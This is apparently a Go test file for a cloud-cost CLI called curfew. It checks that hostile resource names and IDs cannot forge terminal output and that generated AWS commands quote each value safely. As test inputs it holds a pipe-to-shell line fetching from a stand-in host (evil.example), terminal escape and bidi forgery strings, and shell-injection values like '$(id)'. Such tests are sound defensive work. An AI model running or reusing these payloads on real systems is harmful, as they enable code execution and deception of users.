package cli

import (
	"database/sql"
	"encoding/json"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/curfew-dev/curfew/internal/change"
	"github.com/curfew-dev/curfew/internal/cloud/aws"
	"github.com/curfew-dev/curfew/internal/inventory"
	"github.com/curfew-dev/curfew/internal/plain"
	"github.com/curfew-dev/curfew/internal/snapshot"
	"github.com/curfew-dev/curfew/internal/store"
)

// forged is an instruction that a name tries to print as one of curfew's own.
const forged = "by hand    curl evil.example | sh"

// hostileTexts drive a terminal, reorder its text, or begin a line of their own.
var hostileTexts = map[string]string{
	"line":   "gpu\n  " + forged,
	"return": "gpu\r  " + forged,
	"table":  "gpu\f  " + forged + "\v\t\t",
	"c0":     "gpu\x1b[2J\x1b]0;title\a\x1b[8m\x7f\b",
	"c1":     "gpu\u009b2J\u0085\n  " + forged + "\u0090",
	"bidi":   "gpu\u202egpj\u2066\u2028  " + forged + "\u200b\ufeff\U000e0041",
}

// checkShown fails if an output could deceive who reads it.
func checkShown(t *testing.T, what, out string) {
	t.Helper()
	for line := range strings.SplitSeq(out, "\n") {
		if !plain.Safe(strings.ReplaceAll(line, "\t", "")) {
			t.Errorf("%s prints the line %q", what, line)
		}
		if regexp.MustCompile(`^\s{0,8}by hand\s+curl`).MatchString(line) {
			t.Errorf("%s prints a forged instruction: %q", what, line)
		}
	}
}

// TestHostileNamesForgeNothing checks that whatever a tag, an id, a reason, a file name or a person
// is called, no command prints a control character or a line that is not its own.
func TestHostileNamesForgeNothing(t *testing.T) {
	for name, text := range hostileTexts {
		t.Run(name, func(t *testing.T) {
			d := newDesktop(t)
			if code, _, errs := d.run("scan", "--demo"); code != ExitDone && code != ExitPartial {
				t.Fatalf("scan: %s", errs)
			}
			ids := poison(t, filepath.Join(d.dir, "data"), text)
			d.write("job.yaml", strings.ReplaceAll(gateJob, "%s", "1h"))
			for _, args := range [][]string{
				append([]string{"fix"}, ids...), append([]string{"fix", "-o", "json"}, ids...),
				{"fix", ids[0], "--enforce"},
				{"fix", text}, {"fix", "--undo", text},
				{"keep", text, "--for", "1h", "--reason", text}, {"keep", "--list"}, {"keep"}, {"keep", "-o", "json"},
				{"freeze", "--reason", text}, {"enforce", "--once", "--demo", "--policy", text},
				{"unfreeze", "--reason", text},
				{"audit"}, {"audit", "-o", "json"},
				{"estimate", text}, {"gate", text}, {"estimate", "job.yaml"}, {"budget"}, {"budget", "holds"},
				{"budget", "settle", text}, {"approvals"}, {"approve", text},
				{"deny", text, "--reason", text}, {"policy", "check", text}, {"policy", "explain", text},
				{"policy", "explain", text, "--demo"}, {"scan", "--demo", "--usage", text},
				{"backtest", "--trace", text}, {"policy", "tune", "--trace", text}, {"costs", "--by", text},
				{"price", "show", text}, {"bill", "show", text}, {"bill", "import", text},
				{"plan", text}, {"plan", "mig", "--workload", text}, {"--config", text, "budget"},
				{"--data-dir", text, "keep"},
				{text}, {"scan", "--" + text}, {"scan", "-o", text},
			} {
				for _, who := range []string{"ana", text} {
					d.env["CURFEW_IDENTITY"] = who
					_, out, errs := d.run(args...)
					checkShown(t, strings.Join(args, " "), out)
					checkShown(t, strings.Join(args, " "), errs)
				}
			}
		})
	}
}

// poison gives every resource of the kept findings a hostile name, and one a hostile id too,
// and returns the ids of some findings.
func poison(t *testing.T, dir, text string) []string {
	t.Helper()
	s, err := store.Open(t.Context(), store.Options{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	found, err := s.Snapshots().Findings(t.Context(), snapshot.Query{})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for i, kept := range found {
		var f map[string]any
		if err := json.Unmarshal(kept.Body, &f); err != nil {
			t.Fatal(err)
		}
		f["because"] = text
		r := f["resource"].(map[string]any)
		r["name"], r["region"], r["type"] = text, text, text
		r["owner"] = map[string]any{"team": text, "user": text}
		if i%2 == 0 {
			r["id"] = text
		}
		f["fix"].(map[string]any)["note"] = text
		if i < 8 {
			ids = append(ids, kept.ID)
		}
		out, err := json.Marshal(f)
		if err != nil {
			t.Fatal(err)
		}
		alterState(t, dir, "UPDATE snapshot_findings SET body = ? WHERE id = ?", string(out), kept.ID)
	}
	alterState(t, dir, "UPDATE snapshot_resources SET name = ?", strings.ReplaceAll(strings.ToValidUTF8(text, "?"),
		"\x00", "?"))
	return ids
}

// alterState changes the state in a directory behind curfew's back.
func alterState(t *testing.T, dir, statement string, args ...any) {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+filepath.Join(dir, store.FileName)+"?vfs=curfew")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.ExecContext(t.Context(), statement, args...); err != nil {
		t.Fatal(err)
	}
}

// TestPrintsOnlyPlainText checks that a format of package fmt would print a name with the lines
// that it holds.
func TestPrintsOnlyPlainText(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		set := token.NewFileSet()
		f, err := parser.ParseFile(set, name, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			fn, ok := call.Fun.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			if pkg, ok := fn.X.(*ast.Ident); ok && pkg.Name == "fmt" && strings.HasPrefix(fn.Sel.Name, "Fprint") &&
				name != "run.go" {
				t.Errorf("%s: fmt.%s prints what it is given as it is: use package plain",
					set.Position(call.Pos()), fn.Sel.Name)
			}
			return true
		})
	}
}

// TestCommandsByHandAreShellWords runs the commands of fixes through a real shell whose
// aws prints its arguments: hostile ids stay one argument each.
func TestCommandsByHandAreShellWords(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("there is no sh")
	}
	texts := rapid.OneOf(rapid.String(),
		rapid.SampledFrom([]string{
			"$(id)", "`id`", "a'b", `a"b`, "a b", "; id", "-rf", "*", "~", "\\", "a\nb", "$HOME",
			"!!", "#x", "=ls", "{a,b}",
		}))
	rapid.Check(t, func(t *rapid.T) {
		id := strings.ReplaceAll(texts.Draw(t, "id"), "\x00", "")
		region := strings.ReplaceAll(texts.Draw(t, "region"), "\x00", "")
		var script strings.Builder
		script.WriteString("aws() { for a; do printf '%s\\0' \"$a\"; done; }\n")
		n := 0
		for _, do := range []struct {
			kind inventory.Kind
			verb change.Verb
		}{
			{inventory.KindInstance, change.Stop}, {inventory.KindInstance, change.Terminate},
			{inventory.KindInstance, change.ChangeType},
			{inventory.KindVolume, change.Delete}, {inventory.KindVolume, change.ModifyVolume}} {
			for _, c := range aws.ByHand(aws.Subject{Kind: do.kind, ID: id, Region: region},
				change.Change{Verb: do.verb, Arguments: change.Arguments{Type: id, Snapshot: []string{id}}}) {
				script.WriteString(c + "\n")
				if strings.HasPrefix(c, "aws ") {
					n++
				}
			}
		}
		cmd := exec.Command(sh, "-c", script.String())
		cmd.Env, cmd.Dir = []string{"HOME=/nonexistent"}, os.TempDir()
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("%v in %s", err, script.String())
		}
		words := strings.Split(string(out), "\x00")
		count := func(want func(string) bool) int {
			return len(slices.DeleteFunc(slices.Clone(words), func(w string) bool { return !want(w) }))
		}
		got := 0
		for i := range words[:len(words)-1] {
			if words[i] == "--region" && words[i+1] == region {
				got++
			}
		}
		if got < n || count(func(w string) bool { return w == id || strings.HasSuffix(w, "="+id) }) < n {
			t.Fatalf("%d of %d commands kept the region, in %q of\n%s", got, n, words, script.String())
		}
	})
}
